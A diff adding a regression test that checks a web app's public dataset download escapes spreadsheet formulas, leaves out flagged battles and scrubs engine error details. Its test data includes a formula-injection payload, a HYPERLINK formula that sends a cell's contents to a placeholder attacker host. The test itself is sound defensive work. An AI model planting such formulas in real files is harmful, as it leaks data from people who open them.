@@ -1,13 +1,16 @@
 """Public data never leaks a live battle, and a public download is built once per filter set.
 
 Probes of the old app: during an open anonymous battle the Dataset page's export listed it with both
-contestants (a visitor learnt A and B before voting); every Download click rebuilt the whole export.
+contestants (a visitor learnt A and B before voting); every Download click rebuilt the whole export;
+the CSV download ran formulas, held flagged battles and a remote engine's error text (issue 39).
 """
 
 from __future__ import annotations
 
 import threading
 from collections.abc import Callable
+
+import pytest
 
 from tests.webapp.conftest import open_app
 from tests.webapp.test_arena_app import TURN_1, _send, _texts
@@ -83,3 +86,80 @@ def test_the_mode_filter_on_the_dataset_page(arena_env: Callable[..., str]) -> N
     assert any("0 battles match" in c for c in _texts(page.caption))
     page.multiselect(key="ds_modes").set_value(["anonymous", "direct"]).run()
     assert any("1 battles match" in c for c in _texts(page.caption))
+
+
+# --- issue 39: formulas, flagged battles and engine error text in the public download ----------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+ENGINE_ERROR = ("HTTP 500 from server: model gpt-secret-7b at https://api.secret-engine.example/v1 "
+                "failed for org-abc123")
+
+
+def _battles_for_the_public(ctx) -> tuple[str, str]:  # noqa: ANN001 -- the page's Context
+    """A voted battle with formula text and two failed replies (an old row with the engine's own words,
+    a new one in the public form), and a voted battle the admin then flags. Returns (public, flagged)."""
+    from db import repository as db_repo
+    from webapp import gateway_data
+
+    for slug in ("m1", "m2"):
+        db_repo.upsert_contestant(ctx.engine, slug=slug, display_name=slug.upper(), family="test")
+    ids = []
+    for _ in range(2):
+        battle = db_repo.open_battle(ctx.engine, mode="anonymous", scenario="calendar", contestant_a="m1",
+                                     contestant_b="m2")
+        for side in ("a", "b"):
+            db_repo.append_message(ctx.engine, battle_id=battle.id, side=side, kind="request",
+                                   content=FORMULA)
+        db_repo.append_message(ctx.engine, battle_id=battle.id, side="a", kind="reply", content="-1",
+                               finish_reason="error", error=ENGINE_ERROR)
+        db_repo.append_message(ctx.engine, battle_id=battle.id, side="b", kind="reply", content="@b",
+                               finish_reason="error", error="engine_error (error 1a2b3c4d)")
+        db_repo.record_vote(ctx.engine, battle_id=battle.id, choice="a")
+        ids.append(battle.id)
+    said = gateway_data.flag(ctx, battle_id=ids[1], reason="abuse", undo=False, admin_session="admin-1")
+    assert "flagged" in said
+    return ids[0], ids[1]
+
+
+def _zipped_tables(blob: bytes) -> dict[str, list[dict[str, str]]]:
+    import csv
+    import io
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
+        return {name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
+                for name in archive.namelist() if name.endswith(".csv")}
+
+
+@pytest.mark.parametrize("backend", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
+def test_the_public_download_is_safe_to_open_and_holds_what_the_page_counts(
+    arena_env: Callable[..., str], backend: str, request: pytest.FixtureRequest
+) -> None:
+    """Probes: `=HYPERLINK(...)` reached `messages.csv` as a formula; a flagged battle was in the public
+    download; a remote engine's error text (model, endpoint, org id) was exported word for word."""
+    from webapp import gateway_data
+
+    settings = {"public_export_delay_hours": "0"}
+    if backend == "postgres":
+        settings["database_url"] = request.getfixturevalue("pg_schema_url")
+    arena_env(**settings)
+    ctx = _ctx()
+    public, flagged = _battles_for_the_public(ctx)
+    page = open_app("pages/dataset.py")
+    assert any("1 battles match" in c for c in _texts(page.caption))
+    assert [m.value for m in page.metric][:4] == ["1", "4", "0", "1"], "battles, messages, corrections, votes"
+
+    filters = gateway_data.public_filters(ctx.settings, scenario=None, since=None, until=None,
+                                          corrections_only=False)
+    blob = gateway_data.dataset_bytes(ctx, filters, fmt="csv", view="dialogues")
+    tables = _zipped_tables(blob)
+    assert [len(tables[name]) for name in ("battles", "messages", "corrections", "votes")] == [1, 4, 0, 1]
+    assert [b["id"] for b in tables["battles"]] == [public]
+    assert {m["content"] for m in tables["messages"]} == {"'" + FORMULA, "'-1", "'@b"}
+    assert [m["error"] for m in tables["messages"] if m["error"]] == ["engine_error", "engine_error"]
+    text = str(tables)
+    assert not any(word in text for word in ("gpt-secret-7b", "secret-engine", "org-abc123", "1a2b3c4d"))
+    battles_csv = gateway_data.dataset_bytes(ctx, filters, fmt="csv", view="battles").decode()
+    assert public in battles_csv and flagged not in battles_csv
+    jsonl = gateway_data.dataset_bytes(ctx, filters, fmt="jsonl", view="dialogues").decode()
+    assert FORMULA.replace('"', '\\"') in jsonl and flagged not in jsonl and "org-abc123" not in jsonl
